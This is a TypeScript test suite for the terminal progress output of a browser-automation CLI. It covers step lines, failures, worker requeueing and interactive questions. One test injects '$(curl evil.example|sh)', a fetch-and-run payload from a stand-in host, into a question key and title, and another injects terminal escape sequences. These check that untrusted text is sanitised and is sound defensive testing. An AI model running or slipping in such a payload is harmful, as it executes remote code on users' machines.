import { createEvent, type EventDraft, type RunEvent } from '@pilothouse/contract';
import { atWorkLine, Progress } from './progress-lines.ts';
import { styleFor } from './text-style.ts';

const at = new Date('2026-05-04T12:00:00.000Z');
let seq = 0;
const numbered = (draft: EventDraft): RunEvent => ({
  ...draft,
  seq: ++seq,
  run: '0197f3c2-1a2b-7c3d-8e4f-5a6b7c8d9e0f',
  epoch: 1,
});
const error = { code: 'TARGET_NOT_FOUND', message: 'nothing', retry: 'no' } as const;
const acting = (step: number, title: string) =>
  numbered(createEvent('step.acting', title, { step, id: null, action: 'click', title, summary: title }, at));
const acted = (step: number, value?: string | object[]) =>
  numbered(
    createEvent(
      'step.acted',
      'done',
      { step, id: null, rung: 0, ms: 840, located: null, value: value as never, page: null },
      at,
    ),
  );

const queued = (steps?: number) => {
  const data = { fleet: 'browser', priority: 0, retryOf: null, ...(steps !== undefined && { steps }) };
  return numbered(createEvent('run.queued', 'Queued', data, at));
};
const progress = () => {
  const run = new Progress(styleFor(false));
  run.tell(queued(24));
  return run;
};

test('a step that was done is one line: mark, number, title, time, and in short what was read', () => {
  const run = progress();
  expect(run.tell(acting(2, 'Read the catalogue'))).toEqual({
    lines: [],
    atWork: { text: ' 3/24  Read the catalogue', since: at.toISOString() },
  });
  const branch = { step: 2, id: null, branch: 'left', n: 1, action: 'click', title: 'Open' } as const;
  expect(run.tell(numbered(createEvent('branch.acting', 'left: Open', branch, at)))).toMatchObject({
    atWork: { text: '  left  Open' },
  });
  const { lines, atWork } = run.tell(acted(2, [{ sku: 'A' }, { sku: 'B' }]));
  expect(lines).toHaveLength(1);
  expect(lines[0]).toMatch(/^✓ {2}3\/24 {2}Read the catalogue +0\.8 s {2}2 rows \(sku\)$/);
  expect(atWork).toBeNull();
});

test('a step that failed has its cross and code, and the run that failed says at which step', () => {
  const run = progress();
  run.tell(acting(3, 'Log in'));
  const [line] = run.tell(
    numbered(createEvent('step.failed', 'no', { step: 3, id: null, error, ms: 30_000 }, at)),
  ).lines;
  expect(line).toMatch(/^✗ {2}4\/24 {2}Log in +30 s {2}TARGET_NOT_FOUND$/);
  expect(run.failure).toBeNull();
  run.tell(numbered(createEvent('run.failed', 'no', { error, step: 3 }, at)));
  expect(run.failure).toEqual({ step: 3, at: '4', title: 'Log in' });
});

test('where control flow decides how many steps there are, a line says where its step stands', () => {
  const run = new Progress(styleFor(false));
  run.tell(queued());
  const title = 'Read';
  const at = (step: number, at?: string) => ({ step, ...(at !== undefined && { at }), id: null });
  const begin = (place: { step: number; id: null }) =>
    numbered(createEvent('step.acting', title, { ...place, action: 'click', title, summary: title }, new Date(0)));
  const outcome = { rung: 0, ms: 840, located: null, page: null };
  const numbers = [at(0), at(1, '2[1]/1'), at(2, '2[2]/1'), at(3, '3')].map((place) => {
    run.tell(begin(place));
    const [line = ''] = run.tell(
      numbered(createEvent('step.acted', 'done', { ...place, ...outcome }, new Date(0))),
    ).lines;
    return line.split(/ +/)[1];
  });
  expect(numbers).toEqual(['1', '2[1]/1', '2[2]/1', '3']);
  run.tell(numbered(createEvent('run.failed', 'no', { error, step: 2 }, new Date(0))));
  expect(run.failure).toEqual({ step: 2, at: '2[2]/1', title });
});

test('a worker that went away is told, and that another is waited for', () => {
  const lost = numbered(createEvent('run.requeued', 'The worker went away', { error, worker: 'w' }, at));
  expect(progress().tell(lost)).toEqual({
    lines: ['↻ The worker went away: back in the queue, for another worker'],
    atWork: { text: 'waiting for another worker', since: at.toISOString() },
  });
});

test('titles and messages of others cannot act on the terminal', () => {
  const run = progress();
  run.tell(acting(0, 'Open \u001b]0;mine\u0007the page\r'));
  expect(run.tell(acted(0)).lines[0]).toContain('Open the page');
  const warning = numbered(createEvent('log', 'x\u001b[2Jy', { facts: {} }, at, 'warn'));
  expect(run.tell(warning).lines).toEqual(['! xy']);
});

test('what a newer API says in a form not known here is passed over', () => {
  const run = progress();
  expect(run.tell({ ...acted(0), data: { of: 'another form' } })).toEqual({ lines: [] });
  expect(run.tell({ ...acted(0), type: 'run.dreaming' as never })).toEqual({ lines: [] });
});

test('debug and info logs are for `logs`', () => {
  expect(progress().tell(numbered(createEvent('log', 'quiet', { facts: {} }, at))).lines).toEqual([]);
});

test('what is at work shows its seconds when there are some', () => {
  const work = { text: 'Log in', since: at.toISOString() };
  expect(atWorkLine(work, new Date(at.getTime() + 900))).toBe('Log in');
  expect(atWorkLine(work, new Date(at.getTime() + 3_400))).toBe('Log in  3 s');
  expect(atWorkLine(work, new Date(at.getTime() + 65_000))).toBe('Log in  1 min 05 s');
});

test('a question is shown with how to answer it', () => {
  const run = progress();
  const question = {
    step: 4,
    id: 'order',
    key: '2.4.0',
    reason: 'Step 5 may have happened before',
    choices: [
      { choice: 'continue' as const, title: 'It happened' },
      { choice: 'repeat' as const, title: 'It did not' },
    ],
    until: at.toISOString(),
  };
  const asked = run.tell(numbered(createEvent('run.awaiting_user', question.reason, question, at)));
  expect(asked.lines).toEqual([
    '? Step 5 may have happened before',
    '  npx pilothouse answer 0197f3c2-1a2b continue --question 2.4.0',
    '    It happened',
    '  npx pilothouse answer 0197f3c2-1a2b repeat --question 2.4.0',
    '    It did not',
    '  npx pilothouse answer 0197f3c2-1a2b dismiss --question 2.4.0',
    '    End the run as completed: the rest was seen to by hand',
  ]);
  expect(asked.atWork?.text).toBe('waiting for a person');
  // An API of before names none.
  const { key, ...unnamed } = question;
  expect(run.tell(numbered(createEvent('run.awaiting_user', question.reason, unnamed, at))).lines[1]).toBe(
    '  npx pilothouse answer 0197f3c2-1a2b continue',
  );
  // Nothing that a worker says is pasted with a command.
  const evil = '$(curl evil.example|sh)';
  const choices = [{ choice: 'continue' as const, title: evil }];
  const said = { ...question, key: `0.0@${evil}`, choices };
  const shown = run.tell(numbered(createEvent('run.awaiting_user', question.reason, said, at))).lines;
  const commands = shown.filter((line) => line.includes('npx'));
  expect(commands).toEqual([
    '  npx pilothouse answer 0197f3c2-1a2b continue',
    '  npx pilothouse answer 0197f3c2-1a2b dismiss',
  ]);
  expect(shown).toContain(`    ${evil}`);
  const resumed = { by: 'Ada', choice: 'repeat' as const, step: 4 };
  expect(run.tell(numbered(createEvent('run.resumed', 'Ada answered: repeat', resumed, at))).lines).toEqual([
    '· Ada answered: repeat',
  ]);
});
